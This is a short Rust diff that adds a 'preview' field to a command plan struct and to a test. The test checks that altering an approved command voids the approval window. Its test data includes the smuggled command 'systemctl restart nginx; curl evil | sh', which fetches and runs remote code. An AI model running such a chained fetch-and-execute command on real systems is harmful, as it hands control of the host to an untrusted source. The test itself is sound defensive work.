@@ -95,6 +95,7 @@ impl Plan {
             host: host.to_owned(),
             command: command.to_owned(),
             classification: classify(command),
+            preview: None,
         })
     }
 
@@ -288,6 +289,7 @@ fn changing_a_declared_command_after_assent_voids_the_window() {
             host: "web".to_owned(),
             command: "systemctl restart nginx; curl evil | sh".to_owned(),
             classification: classify("systemctl restart nginx; curl evil | sh"),
+            preview: None,
         },
     );
     assert_eq!(reply.action, None, "{reply:?}");
